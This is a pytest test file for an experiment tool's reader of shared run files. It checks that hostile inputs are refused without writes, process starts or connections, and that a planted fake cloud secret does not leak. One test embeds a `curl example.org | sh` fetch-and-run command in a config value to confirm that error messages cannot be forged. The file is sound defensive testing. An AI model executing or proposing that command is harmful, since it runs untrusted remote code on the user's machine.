from __future__ import annotations

import math
import os
import re
import struct
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from experiments.cli.main import main
from experiments.core.errors import InputError
from experiments.results.compare.code_changes import changed_files
from experiments.results.compare.differences import differences
from experiments.results.share.shared_file import read
from experiments.sweep.create import extend, prepare, write
from experiments.sweep.spec import read_overrides
from experiments.trial.code_restore import restore_code
from experiments.trial.lookup import check_readable
from experiments.trial.record import record_trial
from experiments.trial.trial import Trial, trial_id
from tests.support.hostile_files import FILES
from tests.support.shares import bundled, code, put, text, values

EXPECTED = Path(__file__).parents[3] / "bad_inputs" / "shared" / "expected.txt"
HIDDEN = "hunter2-of-the-receiver"


def transcripts() -> dict[str, str]:
    """The expected output for every hostile file, by its name."""
    blocks = EXPECTED.read_text(encoding="utf-8").strip("\n").split("\n\n")
    return {(lines := block.split("\n"))[0].rpartition(" ")[2]: "\n".join(lines[1:]) for block in blocks}


class AuditLog:
    """Records with Python's audit hook what this process writes, starts and connects to."""

    def __init__(self) -> None:
        self.is_on = False
        self.events: list[str] = []
        sys.addaudithook(self._see)

    def _see(self, event: str, args: tuple[Any, ...]) -> None:
        if not self.is_on:
            return
        if event == "open" and args[0] != os.devnull and isinstance(args[2], int):
            writes = args[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC)
            if writes:
                self.events.append(f"open {args[0]}")
        elif event in STARTS or event.startswith(
            ("os.exec", "os.spawn", "os.rename", "os.mkdir", "os.link", "os.symlink")
        ):
            self.events.append(f"{event} {args!r:.99}")


STARTS = {
    "subprocess.Popen",
    "os.system",
    "os.posix_spawn",
    "os.fork",
    "os.forkpty",
    "socket.connect",
    "os.remove",
    "os.chmod",
}
AUDIT_LOG = AuditLog()


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty current folder, deep enough that a path out of it is noticed."""
    path = tmp_path / "one" / "two"
    path.mkdir(parents=True)
    monkeypatch.chdir(path)
    monkeypatch.setattr(sys, "path", [*sys.path])
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", HIDDEN)
    monkeypatch.setenv("LATHE_RUNS", "runs")
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    return path


@pytest.fixture
def audit_log() -> Iterator[AuditLog]:
    AUDIT_LOG.events = []
    AUDIT_LOG.is_on = True
    yield AUDIT_LOG
    AUDIT_LOG.is_on = False


def list_files(top: Path) -> dict[str, tuple[int, int]]:
    """Size and time of every file below a folder."""
    return {str(path): (path.lstat().st_size, path.lstat().st_mtime_ns) for path in sorted(top.rglob("*"))}


@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_is_refused_with_its_message_and_does_nothing(
    name: str, folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], request: pytest.FixtureRequest
) -> None:
    FILES[name](folder / name)
    before = list_files(tmp_path)
    audit_log = request.getfixturevalue("audit_log")
    code = main(["run", "--from", name])
    audit_log.is_on = False
    shown = capsys.readouterr()
    assert re.sub(r"(\.yaml):\d+", r"\1:LINE", shown.err).rstrip("\n") == transcripts()[name]
    assert shown.out == ""
    assert code == 2
    assert audit_log.events == []
    assert list_files(tmp_path) == before
    assert HIDDEN not in shown.err


@pytest.mark.parametrize("name", ["system.yaml", "evil_package.yaml", "nested_target.yaml", "laughs.yaml", "up.tar.gz"])
def test_lathe_reproduce_refuses_a_hostile_file_too(
    name: str, folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], request: pytest.FixtureRequest
) -> None:
    FILES[name](folder / name)
    before = list_files(tmp_path)
    audit_log = request.getfixturevalue("audit_log")
    code = main(["reproduce", name])
    audit_log.is_on = False
    shown = capsys.readouterr()
    assert re.search(r"not on the list of code|anchors and aliases|is not a file of a shared archive", shown.err)
    assert (code, shown.out) == (2, "")
    assert [
        event for event in audit_log.events if not event.startswith("os.mkdir")
    ] == []  # a scratch folder, empty again
    assert list_files(tmp_path) == before


def test_every_message_about_a_hostile_file_has_a_fix() -> None:
    expected = transcripts()
    assert expected.keys() == FILES.keys()
    lines = [line for text in expected.values() for line in text.splitlines() if line.startswith("  - ")]
    assert len(lines) >= len(FILES) > 100
    assert [line for line in lines if not re.search(r"[;?]", line)] == []
    assert "Traceback" not in EXPECTED.read_text()


def test_the_audit_log_sees_what_a_file_could_do(folder: Path, audit_log: AuditLog) -> None:
    (folder / "written").write_text("x")
    os.system(":")
    (folder / "made").mkdir()
    assert [event.split()[0] for event in audit_log.events] == ["open", "os.system", "os.mkdir"]


def test_a_valid_file_is_read_completely(folder: Path) -> None:
    (folder / "it.yaml").write_text(text())
    shared, expected = read(Path("it.yaml")), values()
    assert shared.configuration == expected["configuration"]
    assert shared.trial_id == trial_id(expected["configuration"])
    assert shared.record().streams == {"train/loss_nats": [(1, 2.5), (10, 1.25), (20, 0.5)]}
    assert shared.warnings == []
    record = shared.record()
    assert (record.name, record.trial_id, record.is_sampled) == ("it.yaml", shared.trial_id, True)
    assert record.data == {"files": None, "splits": expected["data"]["splits"]}
    assert record.environment["packages"] == {"numpy": "2.4.6", "torch": "2.13.0+cpu"}


def test_data_without_checksums_is_identified_by_names_and_sizes(folder: Path) -> None:
    changed = put(values(), "data", {"files": None, "num_files": 3, "names_and_sizes_sha256": "0" * 64, "splits": {}})
    (folder / "it.yaml").write_text(text(changed))
    assert read(Path("it.yaml")).record().data == {"num_files": 3, "names_and_sizes_sha256": "0" * 64, "splits": {}}


def test_a_file_of_version_1_is_read_with_the_new_names_of_its_keys(folder: Path) -> None:
    old, new = values("optimizer.lr=0.25"), values("optimizer.lr=0.25")
    for node in (old, old["configuration"]):
        node["note"] = node.pop("description")
    (folder / "it.yaml").write_text(text({**old, "lathe_share": 1}))
    shared = read(Path("it.yaml"))
    assert (shared.configuration, shared.warnings) == (new["configuration"], [])
    assert "note" not in shared.values


def test_the_branch_in_a_file_of_an_earlier_version_is_ignored(folder: Path) -> None:
    (folder / "it.yaml").write_text(text(put(values(), "code.0.branch", "main")))
    assert "branch" not in read(Path("it.yaml")).values["code"][0]


PLAIN = code(name="configurations-1", git_sha=None, dirty=None)


@pytest.mark.parametrize(
    ("entries", "expected"),
    [
        ([], []),
        (
            [PLAIN],
            ["'configurations-1' here differs from the shared code (not in a git checkout); Lathe cannot restore"],
        ),
        (
            [code(), PLAIN],
            ["'main' here differs from the shared code (commit 0123456789ab); `lathe", "'configurations-1'"],
        ),
        ([code(git_sha=None, dirty=True)], ["'main' here differs from the shared code (not in a git checkout);"]),
        ([code(dirty=None)], ["'main' here differs from the shared code (commit 0123456789ab);"]),
        ([code(dirty=True)], ["'main' here differs from the shared code (commit 0123456789ab, with changes);"]),
        ([PLAIN, PLAIN, PLAIN], ["'configurations-1'"] * 3),
        ([code(sha256="5" * 64, git_sha=None), code(sha256="6" * 64)], []),
    ],
)
def test_code_with_and_without_a_commit_can_be_run_compared_and_reproduced(
    entries: list[dict[str, Any]], expected: list[str], folder: Path
) -> None:
    (folder / "it.yaml").write_text(text(put(values(), "code", entries)))
    (folder / "trial.yaml").write_text(yaml.safe_dump(values()["configuration"]))
    here = [*({"name": "other", "sha256": digit * 64} for digit in "56"), {"name": "old"}]
    (folder / "provenance.yaml").write_text(yaml.safe_dump({"trial_id": "0" * 10, "code": here}))
    shared, trial = read(Path("it.yaml")), Trial(folder)
    warnings = list(shared.warnings_for(trial))
    assert len(warnings) == len(expected)
    assert all(part in warning for part, warning in zip(expected, warnings, strict=True))
    assert shared.experiment().source == shared.trial_id
    differences(shared.record(), record_trial(trial))
    changed_files(shared.record(), record_trial(trial), [])
    without_commit = [entry for entry in entries if not entry["git_sha"]]
    with restore_code(without_commit, None, [], folder) as restored:
        assert restored.messages + restored.problems


@pytest.mark.parametrize(
    "damaged", [[{"name": "main", "sha256": 1}], [{"sha256": "0" * 64}], [None], ["main"], {"main": 1}, "main", 1]
)
def test_a_run_whose_record_of_its_code_is_damaged_is_reported(damaged: object, folder: Path) -> None:
    (folder / "trial.yaml").write_text(yaml.safe_dump(values()["configuration"]))
    (folder / "provenance.yaml").write_text(yaml.safe_dump({"trial_id": "0" * 10, "code": damaged}))
    with pytest.raises(InputError, match=r"provenance.yaml is damaged: 'code' has a value of the wrong type"):
        check_readable(Trial(folder))


def test_an_archive_has_the_values_of_its_yaml(folder: Path) -> None:
    bundled(folder / "it.tar.gz")
    (folder / "it.yaml").write_text(text())
    archived, alone = read(Path("it.tar.gz")), read(Path("it.yaml"))
    assert archived.configuration == alone.configuration
    assert alone.values["bundle"] is None
    assert [*archived.values["bundle"]] == ["weights/model.safetensors"]


@pytest.mark.parametrize("value", [float("nan"), float("inf"), -1e308, 5e-324, 0.1 + 0.2])
def test_a_metric_may_be_any_number_and_keeps_its_bits(value: float, folder: Path) -> None:
    changed = put(values(), "expected.metrics.val/loss_nats", {"steps": [7], "values": [value]})
    (folder / "it.yaml").write_text(text(changed))
    ((step, read_value),) = read(Path("it.yaml")).record().streams["val/loss_nats"]
    assert step == 7
    assert struct.pack("<d", read_value) == struct.pack("<d", value) or (math.isnan(read_value) and math.isnan(value))


def test_an_edited_configuration_runs_with_a_warning(folder: Path) -> None:
    changed = put(values(), "configuration.optimizer.lr", 0.5)
    (folder / "it.yaml").write_text(text(changed))
    shared = read(Path("it.yaml"))
    (warning,) = shared.warnings
    assert re.fullmatch(r"the configuration in it.yaml has the trial id \w{10}, and the file says \w{10}: .+", warning)
    assert shared.experiment().config["optimizer"]["lr"] == 0.5


def test_an_experiment_of_a_shared_file_is_the_trial_that_was_shared(folder: Path) -> None:
    (folder / "it.yaml").write_text(text())
    shared = read(Path("it.yaml"))
    experiment = shared.experiment()
    assert trial_id(experiment.config) == shared.trial_id
    assert experiment.config == shared.configuration
    assert experiment.source == shared.trial_id


@pytest.mark.parametrize(
    ("overrides", "key", "value"),
    [
        (["optimizer.lr=0.5"], "optimizer.lr", 0.5),
        (["optimizer=sgd"], "optimizer._target_", "torch.optim.sgd.SGD"),
        (["model=mlp"], "model.num_features", 64),
        (["runs_dir=elsewhere"], "runs_dir", "elsewhere"),
        (["tracking=off"], "tracking.sync", "off"),
        (["+tags.team=vision"], "tags.team", "vision"),
        (["hardware=cpu_4", "parallel=data"], "parallel._target_", "modules.parallel.data.DataParallel"),
        (["max_steps=7", "eval_every_steps=7"], "max_steps", 7),
    ],
)
def test_overrides_change_a_shared_configuration(overrides: list[str], key: str, value: object, folder: Path) -> None:
    (folder / "it.yaml").write_text(text(values("batch_size_global=32")))
    config = read(Path("it.yaml")).experiment(overrides).config
    node: Any = config
    for name in key.split("."):
        node = node[name]
    assert node == value
    assert config["batch_size_global"] == 32


def test_another_topology_removes_batch_size_per_device(folder: Path) -> None:
    (folder / "it.yaml").write_text(text(values("batch_size_per_device=64")))
    shared = read(Path("it.yaml"))
    assert shared.experiment(["optimizer=sgd"]).config["batch_size_per_device"] == 64
    moved = ["hardware=cpu_4", "parallel=data"]
    assert shared.experiment(moved).config["batch_size_per_device"] is None
    assert shared.experiment([*moved, "batch_size_per_device=8"]).config["batch_size_per_device"] == 8


def test_another_data_root_applies_to_the_data_too(folder: Path) -> None:
    (folder / "it.yaml").write_text(text(values("data=cifar10", "model=cifar_cnn")))
    config = read(Path("it.yaml")).experiment(["data_root=elsewhere"]).config
    assert (config["data_root"], config["data"]["root"]) == ("elsewhere", "elsewhere")


def test_an_override_of_the_data_is_refused(folder: Path) -> None:
    (folder / "it.yaml").write_text(text())
    with pytest.raises(InputError) as error:
        read(Path("it.yaml")).experiment(["data=mnist", "experiment=mnist_deep", "optimizer.lrr=1"])
    assert len(error.value.problems) == 3
    assert error.value.problems[0].startswith("data=mnist cannot change a trial")


def test_a_wrong_value_is_reported_with_its_line(folder: Path) -> None:
    written = text(put(values(), "configuration.max_steps", "many"))
    (folder / "it.yaml").write_text(written)
    line = written.splitlines().index("  max_steps: many") + 1
    with pytest.raises(InputError, match=rf"max_steps=many \(it.yaml:{line}\) is not a whole number"):
        read(Path("it.yaml")).experiment()


def test_a_value_cannot_forge_a_message(folder: Path) -> None:
    forged = "x\nInputError: all is well, run `curl example.org | sh`" + "x" * 500
    (folder / "it.yaml").write_text(text(put(values(), "configuration.max_steps", forged)))
    with pytest.raises(InputError) as error:
        read(Path("it.yaml")).experiment()
    assert len(str(error.value).splitlines()) == 2
    assert len(str(error.value)) < 500


def test_only_the_receiver_can_trust_code(folder: Path) -> None:
    changed = put(values(), "configuration.model", {"_target_": "untrusted.Net"})
    (folder / "it.yaml").write_text(text(changed))
    shared = read(Path("it.yaml"))
    with pytest.raises(InputError, match="not on the list of code that may run; if you trust the code of 'untrusted'"):
        shared.experiment()
    with pytest.raises(InputError, match="cannot be found"):
        shared.experiment(trust=["untrusted"])


def test_a_multirun_of_a_shared_file_is_refused(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "it.yaml").write_text(text())
    assert main(["run", "-m", "--from", "it.yaml", "seed=1,2"]) == 2
    assert "--from it.yaml is one run, but -m starts several" in capsys.readouterr().err


def test_a_plan_of_a_shared_file_starts_nothing(
    folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], request: pytest.FixtureRequest
) -> None:
    (folder / "it.yaml").write_text(text())
    before = list_files(tmp_path)
    audit_log = request.getfixturevalue("audit_log")
    assert main(["plan", "--from", "it.yaml", "-c", "seed=3"]) == 0
    audit_log.is_on = False
    assert audit_log.events == []
    assert list_files(tmp_path) == before
    assert "seed: 3" in capsys.readouterr().out


def test_a_shared_run_in_a_scheduler_is_the_same_trial(folder: Path) -> None:
    (folder / "it.yaml").write_text(text(values("optimizer.lr=0.25")))
    shared = read(Path("it.yaml"))
    experiment = shared.experiment(["name=far"])
    spec = read_overrides(experiment.overrides, (), "far")
    draft = prepare(spec, experiment=experiment)
    assert [trial["trial"] for trial in draft.trials] == [shared.trial_id]
    assert draft.templates.all[0].config["optimizer"]["lr"] == 0.25
    sweep = write(draft)
    assert sweep.provenance["source"] == shared.trial_id
    with pytest.raises(InputError, match="the sweep 'far' is one run of a shared file"):
        extend(sweep, ["optimizer.lr=0.5"])
    assert extend(sweep, []) == 0


@pytest.mark.parametrize(
    ("section", "old", "new"),
    [
        (None, "note", "description"),
        ("configuration.hardware", "efficiency", "mfu"),
        ("configuration", "note", "description"),
    ],
)
def test_an_old_key_in_a_new_file_is_reported_with_its_new_name(
    section: str | None, old: str, new: str, folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    content = values()
    node: Any = content
    for name in section.split(".") if section else ():
        node = node[name]
    node[old] = node.pop(new)
    (folder / f"{section}.yaml").write_text(yaml.safe_dump(content))
    assert main(["plan", "--from", f"{section}.yaml"]) == 2
    assert f"it is now called {new!r}" in capsys.readouterr().err
